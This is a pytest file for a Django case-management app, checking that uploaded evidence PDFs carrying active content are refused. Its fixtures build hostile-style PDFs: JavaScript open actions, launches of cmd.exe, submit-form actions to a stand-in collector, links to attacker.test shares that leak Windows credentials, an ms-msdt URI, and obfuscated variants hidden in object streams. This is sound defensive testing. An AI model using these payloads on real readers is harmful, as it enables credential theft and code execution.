"""A PDF uploaded as evidence is refused when it carries anything that acts on its own (crm.uploads): JavaScript, an
action run when it is opened or read, a program started, files embedded in it, an XFA form, a form action that sends or
loads data, media it plays (rich media, a screen, a movie, a sound, a 3D view), an action that shows or hides parts of a
page, layers set to show one thing on screen and print another, a link into another PDF (elsewhere or embedded, or an
article thread in another file) or to a file or a network share, a base address for its links, a command of the
reader's menu other than turning a page. Each PDF is a real one, written by pypdf's writer, or laid out with its
objects compressed in an object stream, where no byte of them can be read."""

import html
import uuid
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from pypdf.actions import JavaScript, PageTrigger
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from crm.errors import EvidenceInvalid
from crm.models import CaseEvidence
from crm.services.casework import evidence_add
from tests.factories import call_case
from tests.pdfs import PDF, action, annotation, launch_link, layer, link, pdf_bytes, pdf_with_object_stream

pytestmark = pytest.mark.django_db

SCRIPT = "Photo: the PDF contains JavaScript, which could run when it is opened; such a PDF is not accepted."
AUTOMATIC = (
    "Photo: the PDF carries an action that runs by itself when it is opened or read; such a PDF is not accepted."
)
LAUNCH = "Photo: the PDF can start a program or open another file; such a PDF is not accepted."
EMBEDDED = "Photo: the PDF carries files embedded in it; such a PDF is not accepted."
PASSWORD = "Photo: the PDF is protected by a password, so its contents cannot be checked."
XFA = "Photo: the PDF is an XFA form, which can run scripts and reach servers when it is opened; such a PDF is not"
SENDS_DATA = (
    "Photo: the PDF carries a form action that sends what is in it to another place, or loads data from another "
    "file; such a PDF is not accepted."
)
MEDIA = "Photo: the PDF carries media (Flash, 3D, a video or a sound) that the PDF reader would play; such a PDF is not"
FILE_LINK = (
    "Photo: the PDF has a link to a file, a network share or a program rather than to a web page or an e-mail "
    "address (such a link can hand over the reader's Windows sign-in); such a PDF is not accepted."
)
NAMED = (
    "Photo: the PDF has a link or a button that runs a command of the PDF reader (print, save, close ...); only "
    "one that turns to the next, previous, first or last page is accepted."
)
OTHER_PDF = (
    "Photo: the PDF has a link that opens another PDF, stored elsewhere or embedded in a file; such a PDF is not "
    "accepted."
)
SHOWS_HIDES = (
    "Photo: the PDF has a link or a button that shows or hides parts of its pages, so what it shows can change once "
    "it is open; such a PDF is not accepted."
)
SCREEN_AND_PRINT = (
    "Photo: the PDF has layers set to show one thing on screen and print another; such a PDF is not accepted."
)
LINK_BASE = (
    "Photo: the PDF sets a base address for its links, which sends every link written without one to that address; "
    "such a PDF is not accepted."
)


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture
def case():
    return call_case()


def _stored_files(root: Path) -> list[Path]:
    return [path for path in root.rglob("*") if path.is_file()]


def _xfa_form(writer):
    """An AcroForm whose form is XFA: the reader runs the XML form (its scripts, its connections) instead."""
    packet = DecodedStreamObject()
    packet.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>')
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(packet)}
    )


def _rich_media(writer):
    """A RichMedia annotation: a SWF the reader's Flash (or 3D) player would run."""
    content = DictionaryObject({NameObject("/Type"): NameObject("/RichMediaContent")})
    annotation(writer, "/RichMedia", RichMediaContent=content)


def _embedded_go_to(writer):
    """A link to a PDF attached to the document (/GoToE, its target /T a named attachment)."""
    target = DictionaryObject({NameObject("/R"): NameObject("/C"), NameObject("/N"): TextStringObject("x.pdf")})
    link(action("/GoToE", T=target, D=ArrayObject([NumberObject(0), NameObject("/Fit")])))(writer)


def _link_base(address: str) -> DictionaryObject:
    """The catalog's /URI dictionary with a base address for the links."""
    return DictionaryObject({NameObject("/Base"): TextStringObject(address)})


def _usage(event: str, state: str) -> DictionaryObject:
    """A layer's /Usage: its state (/ON, /OFF) when printed (`event` "/Print") or viewed ("/View")."""
    key = "/PrintState" if event == "/Print" else "/ViewState"
    return DictionaryObject({NameObject(event): DictionaryObject({NameObject(key): NameObject(state)})})


def _encrypted(writer):
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-128")


HOSTILE = {
    "document-javascript": (pdf_bytes(lambda w: w.add_open_action(JavaScript("app.alert(1)"))), SCRIPT),
    "open-action-javascript": (
        pdf_bytes(
            lambda w: w.root_object.update({NameObject("/OpenAction"): action("/JavaScript", JS="app.alert(1)")})
        ),
        SCRIPT,
    ),
    "open-action-uri": (
        pdf_bytes(lambda w: w.root_object.update({NameObject("/OpenAction"): action("/URI", URI="https://x.test/")})),
        AUTOMATIC,
    ),
    "page-opened-action": (
        pdf_bytes(lambda w: w.pages[0].add_action(PageTrigger.OPEN, JavaScript("app.alert(1)"))),
        SCRIPT,
    ),
    "page-opened-uri": (
        pdf_bytes(lambda w: w.pages[0].add_action(PageTrigger.OPEN, action("/URI", URI="https://x.test/"))),
        AUTOMATIC,
    ),
    "launch-link": (pdf_bytes(launch_link), LAUNCH),
    "attachment": (pdf_bytes(lambda w: w.add_attachment("invoice.exe", b"MZ\x90\x00")), EMBEDDED),
    "javascript-in-an-object-stream": (
        pdf_with_object_stream(b"/OpenAction<</S/JavaScript/J#53(app.alert(1))>>"),  # /JS, its S written as #53
        SCRIPT,
    ),
    "launch-in-an-object-stream": (pdf_with_object_stream(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), LAUNCH),
    "password": (pdf_bytes(_encrypted), PASSWORD),
    "xfa-form": (pdf_bytes(_xfa_form), XFA),
    "xfa-form-in-an-object-stream": (
        pdf_with_object_stream(b"/AcroForm<</Fields[]/XFA[(template)(<template/>)]>>"),
        XFA,
    ),
    "submit-form-link": (pdf_bytes(link(action("/SubmitForm", F="https://x.test/collect"))), SENDS_DATA),
    # A form's button: a widget annotation whose /A sends the form, in an object stream, /S written as #53.
    "submit-form-button-in-an-object-stream": (
        pdf_with_object_stream(
            page_entries=b"/Annots[<</Type/Annot/Subtype/Widget/FT/Btn/Rect[0 0 200 200]"
            b"/A<</#53/SubmitForm/F(https://x.test/collect)>>>>]"
        ),
        SENDS_DATA,
    ),
    "import-data-link": (pdf_bytes(link(action("/ImportData", F="data.fdf"))), SENDS_DATA),
    "import-data-on-a-page-in-an-object-stream": (
        pdf_with_object_stream(
            page_entries=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/ImportData/F(data.fdf)>>>>]"
        ),
        SENDS_DATA,
    ),
    "rich-media": (pdf_bytes(_rich_media), MEDIA),
    "rich-media-in-an-object-stream": (
        pdf_with_object_stream(
            page_entries=b"/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 200 200]/RichMediaContent<<>>>>]"
        ),
        MEDIA,
    ),
    # A share's address: a reader that opens it hands the network the Windows user's credentials.
    "remote-go-to-link": (
        pdf_bytes(link(action("/GoToR", F="\\\\attacker.test\\share\\x.pdf", D=ArrayObject([NumberObject(0)])))),
        OTHER_PDF,
    ),
    "remote-go-to-in-an-object-stream": (
        pdf_with_object_stream(
            page_entries=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/GoTo#52/F(x.pdf)/D[0/Fit]>>>>]"
        ),
        OTHER_PDF,
    ),
    # Following another action (/Next): a plain link to a web page, then the remote go-to.
    "remote-go-to-after-a-uri": (
        pdf_bytes(link(action("/URI", URI="https://x.test/", Next=action("/GoToR", F="x.pdf")))),
        OTHER_PDF,
    ),
    "embedded-go-to-link": (pdf_bytes(_embedded_go_to), OTHER_PDF),
    "embedded-go-to-in-an-object-stream": (
        pdf_with_object_stream(b"/Names<</Dests<</Names[(x)<</S/GoToE/T<</R/C/N(x.pdf)>>/D[0/Fit]>>]>>>>"),
        OTHER_PDF,
    ),
    # A link to a file or a share: Windows hands the share the reader's credentials (NTLM), as a /GoToR's would.
    "file-uri-link": (pdf_bytes(link(action("/URI", URI="file:///C:/Windows/System32/calc.exe"))), FILE_LINK),
    "file-uri-to-a-server-link": (pdf_bytes(link(action("/URI", URI="file://attacker.test/share/x.pdf"))), FILE_LINK),
    "unc-uri-link": (pdf_bytes(link(action("/URI", URI="\\\\attacker.test\\share\\x.pdf"))), FILE_LINK),
    "smb-uri-link": (pdf_bytes(link(action("/URI", URI="smb://attacker.test/share"))), FILE_LINK),
    "protocol-handler-uri-link": (pdf_bytes(link(action("/URI", URI="ms-msdt:/id PCWDiagnostic"))), FILE_LINK),
    # Written in capitals after spaces and a tab, as a byte string, in an object stream.
    "file-uri-in-an-object-stream": (
        pdf_with_object_stream(
            page_entries=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI(  \tFILE://x/s)>>>>]"
        ),
        FILE_LINK,
    ),
    "named-print-link": (pdf_bytes(link(action("/Named", N=NameObject("/Print")))), NAMED),
    "named-in-an-object-stream": (
        pdf_with_object_stream(
            page_entries=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/Named/N/SaveAs>>>>]"
        ),
        NAMED,
    ),
    "rendition-link": (pdf_bytes(link(action("/Rendition", OP=NumberObject(0)))), MEDIA),
    "movie-link": (pdf_bytes(link(action("/Movie", Operation=NameObject("/Play")))), MEDIA),
    "sound-link": (pdf_bytes(link(action("/Sound", Sound=DictionaryObject()))), MEDIA),
    "screen-annotation": (pdf_bytes(lambda w: annotation(w, "/Screen")), MEDIA),
    "movie-annotation": (pdf_bytes(lambda w: annotation(w, "/Movie")), MEDIA),
    "sound-annotation-in-an-object-stream": (
        pdf_with_object_stream(page_entries=b"/Annots[<</Type/Annot/Subtype/Sound/Rect[0 0 200 200]>>]"),
        MEDIA,
    ),
    # An article thread in another file (/F): the reader opens that file, a share's address as a /GoToR's.
    "thread-in-another-file-link": (
        pdf_bytes(link(action("/Thread", F="\\\\attacker.test\\share\\x.pdf", D=NumberObject(0)))),
        OTHER_PDF,
    ),
    "thread-in-another-file-in-an-object-stream": (
        pdf_with_object_stream(
            page_entries=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/Thread/F(x.pdf)/D 0>>>>]"
        ),
        OTHER_PDF,
    ),
    # A command to a 3D annotation's player (its view), as a rich media command is.
    "go-to-3d-view-link": (pdf_bytes(link(action("/GoTo3DView", V=NumberObject(0)))), MEDIA),
    # Layers switched on or off, annotations shown or hidden: the page shows something else than it did.
    "set-ocg-state-link": (
        pdf_bytes(link(action("/SetOCGState", State=ArrayObject([NameObject("/Toggle")])))),
        SHOWS_HIDES,
    ),
    "hide-link": (pdf_bytes(link(action("/Hide", T="total", H=BooleanObject(False)))), SHOWS_HIDES),
    "hide-in-an-object-stream": (
        pdf_with_object_stream(
            page_entries=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</#53/Hide/T(total)/H false>>>>]"
        ),
        SHOWS_HIDES,
    ),
    # The catalog's /URI dictionary: its /Base is put before every link's address written without one.
    "link-base-to-a-share": (
        pdf_bytes(lambda w: w.root_object.update({NameObject("/URI"): _link_base("file://attacker.test/share/")})),
        LINK_BASE,
    ),
    "link-base-to-a-web-site": (
        pdf_bytes(lambda w: w.root_object.update({NameObject("/URI"): _link_base("https://x.test/")})),
        LINK_BASE,
    ),
    "link-base-in-an-object-stream": (pdf_with_object_stream(b"/URI<</Base(https://x.test/)>>"), LINK_BASE),
    # Layers whose usage the reader applies by itself: a total hidden on screen and printed, or shown and not printed.
    "layer-printed-not-shown": (pdf_bytes(layer(_usage("/Print", "/ON"), auto_state="/Print")), SCREEN_AND_PRINT),
    "layer-usage-for-printing": (pdf_bytes(layer(_usage("/Print", "/OFF"))), SCREEN_AND_PRINT),
    "layer-usage-for-viewing": (pdf_bytes(layer(_usage("/View", "/OFF"))), SCREEN_AND_PRINT),
    "layer-auto-state-on-print": (pdf_bytes(layer(auto_state="/Print")), SCREEN_AND_PRINT),
    "layer-usage-in-an-object-stream": (
        pdf_with_object_stream(
            b"/OCProperties<</OCGs[<</Type/OCG/Name(Total)/#55sage<</Print<</PrintState/OFF>>>>>>]>>"
        ),
        SCREEN_AND_PRINT,
    ),
    "layer-auto-state-in-an-object-stream": (
        pdf_with_object_stream(b"/OCProperties<</OCGs[]/D<</AS[<</Event/View/OCGs[]/Category[/View]>>]>>>>"),
        SCREEN_AND_PRINT,
    ),
}


def _post(client, case, name: str, content: bytes):
    client.force_login(case.assignee.user)
    upload = SimpleUploadedFile(name, content, content_type="application/pdf")
    return client.post(f"/cases/{case.pk}/evidence", {"submission": str(uuid.uuid4()), "photo": upload}, follow=True)


@pytest.mark.parametrize("hostile", sorted(HOSTILE))
def test_a_pdf_that_acts_on_its_own_is_refused_with_the_field_and_reason_and_nothing_is_stored(
    client, case, tmp_path, hostile
):
    """Such a PDF was stored and served as a download: the agent (or the platform's staff, from the evidence pack)
    opened it in a PDF reader, where it ran."""
    content, says = HOSTILE[hostile]

    response = _post(client, case, "receipt.pdf", content)

    assert says in html.unescape(response.content.decode())
    assert not CaseEvidence.objects.exists()
    assert _stored_files(tmp_path) == []


def test_the_refusal_is_a_400_naming_the_photo_field_in_chinese_too(case):
    content, _ = HOSTILE["javascript-in-an-object-stream"]
    with translation.override("zh-hans"), pytest.raises(EvidenceInvalid) as refused:
        evidence_add(case=case, actor=case.assignee.user, photo=SimpleUploadedFile("receipt.pdf", content))

    assert (refused.value.http_status, refused.value.field) == (400, "photo")
    assert refused.value.message.startswith("照片：该 PDF 含有 JavaScript")


@pytest.mark.parametrize(
    ("hostile", "says"),
    [
        ("xfa-form", "照片：该 PDF 是 XFA 表单"),
        ("submit-form-link", "照片：该 PDF 带有表单动作"),
        ("rich-media", "照片：该 PDF 含有富媒体"),
        ("screen-annotation", "照片：该 PDF 含有富媒体"),
        ("remote-go-to-link", "照片：该 PDF 含有打开另一个 PDF 的链接"),
        ("unc-uri-link", "照片：该 PDF 含有指向文件、网络共享或程序的链接"),
        ("named-print-link", "照片：该 PDF 含有运行 PDF 阅读器命令"),
        ("thread-in-another-file-link", "照片：该 PDF 含有打开另一个 PDF 的链接"),
        ("go-to-3d-view-link", "照片：该 PDF 含有富媒体"),
        ("hide-link", "照片：该 PDF 含有显示或隐藏页面内容的链接或按钮"),
        ("link-base-to-a-web-site", "照片：该 PDF 为其链接设定了基准地址"),
        ("layer-printed-not-shown", "照片：该 PDF 含有在屏幕上显示一种内容、打印时却是另一种内容的图层"),
    ],
    ids=[
        "xfa",
        "submit-form",
        "rich-media",
        "screen",
        "remote-go-to",
        "unc-link",
        "named-action",
        "thread-in-another-file",
        "go-to-3d-view",
        "hide",
        "link-base",
        "screen-and-print",
    ],
)
def test_the_newer_refusals_name_the_photo_field_in_chinese(case, hostile, says):
    with translation.override("zh-hans"), pytest.raises(EvidenceInvalid) as refused:
        evidence_add(case=case, actor=case.assignee.user, photo=SimpleUploadedFile("r.pdf", HOSTILE[hostile][0]))

    assert (refused.value.http_status, refused.value.field) == (400, "photo")
    assert refused.value.message.startswith(says)


@pytest.mark.parametrize(
    "content",
    [
        PDF,
        pdf_with_object_stream(),
        # Opening at a page is a destination, not an action.
        pdf_bytes(lambda w: setattr(w, "open_destination", w.pages[0])),
        # Text that names JavaScript in a string is not JavaScript.
        pdf_bytes(
            lambda w: w.add_metadata({"/Title": "/JavaScript /JS /Launch /AA /OpenAction /XFA /SubmitForm /GoToR"})
        ),
        # A password only to print or edit it: it opens without one, and is read as a reader reads it.
        pdf_bytes(lambda w: w.encrypt(user_password="", owner_password="owner", algorithm="AES-128")),
        # A link to a web page is a link: the reader asks before opening it, and it acts only when clicked.
        pdf_bytes(link(action("/URI", URI="https://x.test/"))),
        pdf_bytes(link(action("/URI", URI="HTTP://x.test/receipt?id=1"))),
        pdf_bytes(link(action("/URI", URI="mailto:service@x.test"))),
        pdf_bytes(link(action("/GoTo", D=ArrayObject([NumberObject(0), NameObject("/Fit")])))),
        # An article thread of this PDF (no /F) is read here, as a go-to a page is.
        pdf_bytes(link(action("/Thread", D=NumberObject(0)))),
        # Turning a page is what a reader's own arrows do.
        *[pdf_bytes(link(action("/Named", N=NameObject(page)))) for page in ("/NextPage", "/PrevPage")],
        *[pdf_bytes(link(action("/Named", N=NameObject(page)))) for page in ("/FirstPage", "/LastPage")],
        # A plain form (AcroForm, no XFA) is fields on the page.
        pdf_bytes(
            lambda w: w.root_object.update(
                {NameObject("/AcroForm"): DictionaryObject({NameObject("/Fields"): ArrayObject()})}
            )
        ),
        pdf_with_object_stream(
            page_entries=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI(https://x.test/)>>>>]"
        ),
        # A layer with no usage for viewing or printing: the page prints what it shows.
        pdf_bytes(layer()),
        # A check box's appearance state (/AS, a name) is not a layer's auto-states (an array).
        pdf_bytes(lambda w: annotation(w, "/Widget", AS=NameObject("/Off"))),
    ],
    ids=[
        "plain",
        "object-stream",
        "open-at-a-page",
        "words-in-a-string",
        "owner-password-only",
        "link-to-a-web-page",
        "link-to-a-web-page-in-capitals",
        "link-to-an-e-mail-address",
        "link-to-a-page",
        "thread-in-this-pdf",
        "next-page",
        "previous-page",
        "first-page",
        "last-page",
        "form-without-xfa",
        "link-to-a-web-page-in-an-object-stream",
        "layer-without-usage",
        "check-box-appearance-state",
    ],
)
def test_a_clean_pdf_is_stored_and_served_as_a_download(client, case, tmp_path, content):
    _post(client, case, "receipt.pdf", content)

    evidence = CaseEvidence.objects.get()
    assert _stored_files(tmp_path) == [Path(evidence.image.path)]
    response = client.get(f"/cases/evidence/{evidence.pk}")
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")
    assert b"".join(response.streaming_content) == content


def test_a_pdf_no_reader_can_parse_is_refused_as_not_a_pdf(client, case, tmp_path):
    response = _post(client, case, "receipt.pdf", b"%PDF-1.7\n<html><script>alert(1)</script></html>")

    assert "Photo: the file's contents are not one of JPEG, PNG, WebP, HEIC, PDF" in html.unescape(response.text)
    assert _stored_files(tmp_path) == []


def test_a_pdf_of_more_objects_than_can_be_checked_is_refused(client, case, tmp_path, monkeypatch):
    """Each object is parsed: 10 MB of empty objects held the web process for a minute."""
    monkeypatch.setattr("crm.uploads.pdfs.MAX_PDF_OBJECTS", 20)  # where the check reads it
    content = pdf_bytes(lambda w: [w.add_blank_page(width=200, height=200) for _ in range(20)])

    response = _post(client, case, "report.pdf", content)

    assert "Photo: the PDF is made of more than 20 objects, too many to check." in html.unescape(response.text)
    assert _stored_files(tmp_path) == []
